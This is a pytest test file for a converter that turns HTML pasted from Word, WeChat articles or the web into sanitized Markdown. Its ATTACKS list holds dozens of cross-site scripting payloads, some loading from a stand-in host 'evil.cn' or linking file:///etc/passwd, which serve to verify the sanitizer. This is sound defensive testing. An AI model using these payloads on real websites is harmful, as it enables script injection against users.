"""What is pasted from Word, a public account or the web becomes clean Markdown."""

import re

import pytest

from cedu_site.conversion import paste
from cedu_site.conversion.converted import ConversionRefused, Converted
from cedu_site.conversion.pasting import from_html
from cedu_site.markup.render import render

WORD = """
<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head><meta name=Generator content="Microsoft Word 15"><title>x</title>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]-->
<style><!-- p.MsoNormal {mso-style-name:正文; font-size:10.5pt} --></style></head>
<body lang=ZH-CN style='tab-interval:21.0pt'><!--StartFragment-->
<h2><span lang=EN-US style='mso-bidi-font-weight:normal'>准备<o:p></o:p></span></h2>
<p class=MsoNormal style='text-indent:21.0pt;mso-char-indent-count:2.0'><b
style='mso-bidi-font-weight:normal'><span style='font-size:14.0pt'>先说</span></b>清楚时间<span
lang=EN-US><o:p>&nbsp;</o:p></span></p>
<p class=MsoListParagraph style='margin-left:18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]>
<span lang=EN-US><span style='mso-list:Ignore'>1.<span style='font:7.0pt "Times New Roman"'>&nbsp;
&nbsp;</span></span></span><![endif]>和面<o:p></o:p></p>
<p class=MsoListParagraph style='mso-list:l1 level2 lfo2'><![if !supportLists]><span
style='font-family:Wingdings'><span style='mso-list:Ignore'>n<span>&nbsp;</span></span></span>
<![endif]>温水</p>
<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><span
style='mso-list:Ignore'>2.<span>&nbsp;</span></span>擀皮</p>
<p class=MsoNormal><span style='mso-hide:all;display:none'>藏</span>见<a
href="https://a.cn/b?utm_medium=x">说明</a><a href="#_ftn1" name="_ftnref1"
style='mso-footnote-id:ftn1'><span>[1]</span></a></p>
<!--[if gte vml 1]><v:shape id="x"><v:imagedata src="file:///C:/a.png"/></v:shape><![endif]-->
<p class=MsoNormal><img width=300 alt="图片 1"
src="file:///C:/Users/x/AppData/Local/Temp/合影.jpg"></p>
<table class=MsoTableGrid border=1><tr><td colspan=2><p>名单<o:p></o:p></p></td></tr>
<tr><td><p>甲</p></td><td><p>乙</p></td></tr></table>
<div style='mso-element:footnote-list'><hr align=left><div style='mso-element:footnote' id=ftn1>
<p class=MsoFootnoteText><a href="#_ftnref1" name="_ftn1"><span>[1]</span></a
>据通知。</p></div></div>
<!--EndFragment--></body></html>"""

WEIXIN = """
<div class="rich_media_content" id="js_content" style="visibility: hidden; opacity: 0;">
<section style="box-sizing: border-box;" data-tools="135编辑器"><section style="display: none;">藏
</section><section style="text-align:center"><strong><span
style="color:#f60">活动回顾</span></strong>
</section></section>
<section style="margin: 10px"><section><p style="text-indent: 2em;"><span leaf="">　　上周六，</span
><span style="font-weight: 700;">三十位</span><span>居民来了。</span></p></section></section>
<section nodeleaf=""><img class="rich_pages wxw-img" data-src="https://mmbiz.qpic.cn/mmbiz_jpg/abc/640?wx_fmt=jpeg"
 data-ratio="0.6" data-type="jpeg" src="data:image/svg+xml,%3Csvg" alt="图片"/></section>
<p><br></p><mp-common-profile class="js_uneditable" data-nickname="某号">名片</mp-common-profile>
<p><a href="https://mp.weixin.qq.com/s?__biz=MzA&amp;mid=1&amp;idx=1&amp;sn=a&amp;chksm=b&amp;scene=21#wechat_redirect"
 data-linktype="2" onclick="alert(1)">上一期</a></p>
<iframe class="video_iframe" data-src="https://v.qq.com/x"></iframe>
<svg viewBox="0 0 1 1"><text>画</text></svg><script>var a = 1</script>
</div>"""


def test_a_paste_from_word() -> None:
    made = from_html(WORD)
    assert made == Converted(
        title="",
        body=(
            "## 准备\n\n**先说**清楚时间\n\n1. 和面\n   - 温水\n2. 擀皮\n\n"
            "见[说明](https://a.cn/b)[^1]\n\n〔此处有一张图片：合影.jpg，请把图片文件放进来〕\n\n"
            "| 名单 |  |\n| --- | --- |\n| 甲 | 乙 |\n\n[^1]: 据通知。"
        ),
        pictures=[],
        notices=[
            "表格里有合并的单元格，已经拆开，请核对。",
            "有 1 张图片没有一起过来（合影.jpg），请把原来的 Word 文件或图片文件一起放进来。",
        ],
    )


def test_a_paste_from_a_public_account() -> None:
    made = from_html(f"<body><h1 id='activity-name'> 题 目 </h1><p>广告</p>{WEIXIN}</body>")
    assert made == Converted(
        title="题 目",
        body=(
            "## 活动回顾\n\n上周六，**三十位**居民来了。\n\n"
            "〔此处有一张图片，请把图片文件放进来〕\n\n"
            "[上一期](https://mp.weixin.qq.com/s?__biz=MzA&mid=1&idx=1&sn=a#wechat_redirect)"
        ),
        pictures=[],
        notices=[
            "有 1 张图片没有一起过来，请把原来的 Word 文件或图片文件一起放进来。",
            "有 1 个视频或录音没有一起过来，请另外放上链接或文件。",
        ],
    )


@pytest.mark.parametrize(
    ("html", "markdown"),
    [
        ("<h1>大</h1><p>文</p><h3>小</h3>", "文\n\n## 小"),
        ("<p>文</p><h3>中</h3><h6>小</h6><h3>中</h3>", "文\n\n## 中\n\n### 小\n\n## 中"),
        ("<nav>栏</nav><main><p>文</p></main><footer>尾</footer><button>点</button>", "文"),
        ("<p>甲<br>　　乙<br><br>丙</p>", "甲  \n乙  \n丙"),
        ("甲<div>乙<div>丙</div>丁</div>戊", "甲\n\n乙\n\n丙\n\n丁\n\n戊"),
        ("<b style='font-weight:normal'><p>甲</p></b>", "甲"),
        ("<p><b>甲</b><b>乙</b>丙<b> 丁 </b>戊</p>", "**甲乙**丙 **丁** 戊"),
        ("<p><b>重<i>点</i></b>和<i>斜</i>。</p>", "**重点**和*斜*。"),
        ("<ul><li>甲<ul><li>乙</ul><li>丙</ul>", "- 甲\n  - 乙\n- 丙"),
        ("<ul><li>甲</li><ul><li>乙</li></ul></ul>", "- 甲\n  - 乙"),
        ("<ol start=3><li>丙<li>丁</ol>", "3. 丙\n4. 丁"),
        ("<blockquote><p>甲</p><p>乙</p></blockquote>", "> 甲\n>\n> 乙"),
        ("<p>甲</p><hr><p>乙</p>", "甲\n\n* * *\n\n乙"),
        (
            "<table><tr><td>甲<td>乙<tr><td>丙|<td>丁</table>",
            "| 甲 | 乙 |\n| --- | --- |\n| 丙&#124; | 丁 |",
        ),
        ("<table><tr><td><p>甲</p><p>乙</p></td></tr></table>", "甲\n\n乙"),
        ("<p>5 m<sup>2</sup>，H<sub>2</sub>O</p>", "5 m²，H₂O"),
        ("<p><a href='http://a.cn/x'>http://a.cn/x</a></p>", "http://a.cn/x"),
        ("<p><a href='http://a.cn/(x)'>甲 [乙]</a></p>", r"[甲 \[乙\]](http://a.cn/%28x%29)"),
        ("<p><a href='mailto:a@b.cn'>信</a><a href='tel:1'>电</a></p>", "[信](mailto:a@b.cn)电"),
        ("<p><a href='/x'>甲</a><a href='//b.cn'>乙</a><a href='#c'>丙</a></p>", "甲乙丙"),
        ("<p><a href='https://t.cn/?spm=1&a=2&from=x#y'>甲</a></p>", "[甲](https://t.cn/?a=2#y)"),
        ("<p>1. 甲</p><p># 乙</p><p>- 丙</p>", "1\\. 甲\n\n\\# 乙\n\n\\- 丙"),
        ("<p>*面议* a_b_c 甲_乙 [注] 姓名：__</p>", r"\*面议\* a_b_c 甲_乙 \[注] 姓名：\_\_"),
        ("<pre>甲\n  乙</pre>", "甲  \n乙"),
        ("<p>甲&nbsp;&nbsp;乙\u200b丙</p>", "甲 乙丙"),
        ("", ""),
        ("只有文字", "只有文字"),
    ],
)  # fmt: skip
def test_html_as_markdown(html: str, markdown: str) -> None:
    assert paste.convert(html)["body"] == markdown


def test_pictures_leave_their_place_and_are_named() -> None:
    html = (
        "<p>前<img src='https://a.cn/u/茶园.png?x=1'>后</p><img src='data:image/png;base64,AAAA'>"
        "<img src='cid:1' alt='采茶的人'><img src='http://a.cn/t.gif' style='width:1px'>"
    )
    made = from_html(html)
    assert made.body == (
        "前后\n\n〔此处有一张图片：茶园.png，请把图片文件放进来〕\n\n"
        "〔此处有一张图片，请把图片文件放进来〕\n\n〔此处有一张图片：采茶的人，请把图片文件放进来〕"
    )
    assert made.notices == [
        "有 3 张图片没有一起过来（茶园.png、采茶的人），请把原来的 Word 文件或图片文件一起放进来。"
    ]
    assert render(made.body).text.count("〔此处有一张图片") == 3


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.cn/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' alt='](javascript:alert(1))'>",
    "<img src='x' alt='\" onerror=alert(1) x=\"'>",
    "<img src='x' alt='<script>alert(1)</script>'>",
    "<img src='https://a.cn/](javascript:alert(1)).png'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' \tjava\nscript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://a.cn/) [y](javascript:alert(1)'>x</a>",
    "<a href='https://a.cn/\"onmouseover=\"alert(1)'>x</a>",
    "<a href='https://a.cn/><script>alert(1)</script>'>x</a>",
    "<a href='https://a.cn/x'>](javascript:alert(1)) [z</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<p>[x](javascript:alert(1))</p>",
    "<p>![x](javascript:alert(1))</p>",
    "<p>[x]: javascript:alert(1)</p><p>[x]</p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>",
    "<p>&lt;javascript:alert(1)&gt;</p>",
    "<p>&lt;</p><p>script&gt;alert(1)</p>",
    "<p>&lt;<b>script</b>&gt;alert(1)</p>",
    "<p>\\</p><p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>",
    "<code>`&lt;script&gt;alert(1)&lt;/script&gt;`</code>",
    "<table><tr><td>&lt;script&gt;<td>|<tr><td>alert(1)<td>&lt;/script&gt;</table>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.cn'</style><link rel=stylesheet href=//evil.cn>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.cn></object><embed src=//evil.cn><base href=//evil.cn>",
    "<form action=//evil.cn><input autofocus onfocus=alert(1)><button>x</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p style='background:url(javascript:alert(1))' onclick=alert(1) hx-get=//evil.cn>x</p>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![if !vml]><img src=x onerror=alert(1)><![endif]>",
    "<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>",
    "<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1>",
    "<div id='cedu-footnote-1'>&lt;script&gt;</div><a href='#cedu-footnote-1'>x</a>",
    "<p>\ue000javascript:alert(1)</p><a href='java\ue000script:alert(1)'>x</a>",
    "<mp-x><script>alert(1)</script></mp-x><template><script>alert(1)</script></template>",
]
ALIVE = re.compile(
    r"<[^>]*\s(?:on\w+|style|hx-\w+|src|srcdoc)\s*=|<(?:script|style|iframe|svg)", re.I
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_pasted_runs(attack: str) -> None:
    made = paste.convert(f"<p>前</p>{attack}<p>后</p>")
    assert "<" not in made["body"]
    html = render(made["body"]).html
    assert html.startswith("<p>前</p>")
    assert not ALIVE.search(html)
    links = re.findall(r'href="([^"]*)"', html)
    assert all(link.startswith(("https://a.cn/", "#")) for link in links)


@pytest.mark.long
@pytest.mark.parametrize(
    ("html", "reason"),
    [
        ("<ul><li>" * 5000 + "x", "太深"),
        ("<span>" * 20000 + "x", "太深"),
        ("字" * 400_001, "太长"),
        ("x" * (20 * 1024 * 1024 + 1), "太大"),
        ("<div>" * 300_000 + "x", "太慢|太深"),
    ],
    ids=["lists", "spans", "long", "huge", "divs"],
)
def test_what_would_cost_too_much_is_refused(html: str, reason: str) -> None:
    with pytest.raises(ConversionRefused, match=reason):
        from_html(html)
